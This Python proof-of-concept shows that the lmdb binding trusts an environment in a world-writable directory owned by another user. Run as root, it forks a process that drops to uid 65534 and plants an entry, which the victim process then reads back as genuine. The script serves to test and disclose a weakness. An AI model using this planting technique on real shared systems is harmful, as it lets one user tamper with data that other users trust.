"""lmdb opens an environment in a directory that another user owns and everyone can write,
and returns what it finds there as genuine. Here the directory belongs to uid 65534 (nobody)
with mode 0o777, a process running as that user stores an entry, and the victim's environment
on the same directory reads the planted value. LMDB leaves the choice of directory (and its
permissions) to the caller; whoever can write the directory can plant or change any entry.
Needs root (to chown).
"""
import os
import tempfile
from pathlib import Path

import lmdb

NOBODY = 65534
if os.geteuid() != 0:
    raise SystemExit("run as root: building another user's directory needs chown")
with tempfile.TemporaryDirectory() as tmp:
    os.chmod(tmp, 0o755)
    shared = Path(tmp, "cache")
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    os.chmod(shared, 0o777)
    # open (and close) another environment first: py-lmdb imports parts of itself on first use,
    # and the other user may not be allowed to read the installed package
    lmdb.open(str(Path(tmp, "warm-up")), map_size=1 << 20).close()
    pid = os.fork()
    if pid == 0:  # the other user plants an entry (no environment is open before the fork)
        os.chdir(shared)  # so the other user needs no access to the directories above it
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        env = lmdb.open(".", map_size=1 << 30)
        with env.begin(write=True) as txn:
            txn.put(b"key", b"planted by uid 65534", overwrite=False)
        env.close()
        os._exit(0)
    assert os.waitpid(pid, 0)[1] == 0, "the other user could not plant the entry"
    env = lmdb.open(str(shared), map_size=1 << 30)
    with env.begin() as txn:
        got = txn.get(b"key")
    env.close()
    print(f"owner uid {shared.stat().st_uid}, mode {oct(shared.stat().st_mode & 0o777)}")
    print("victim get(b'key') ->", got)
    if got == b"planted by uid 65534":
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
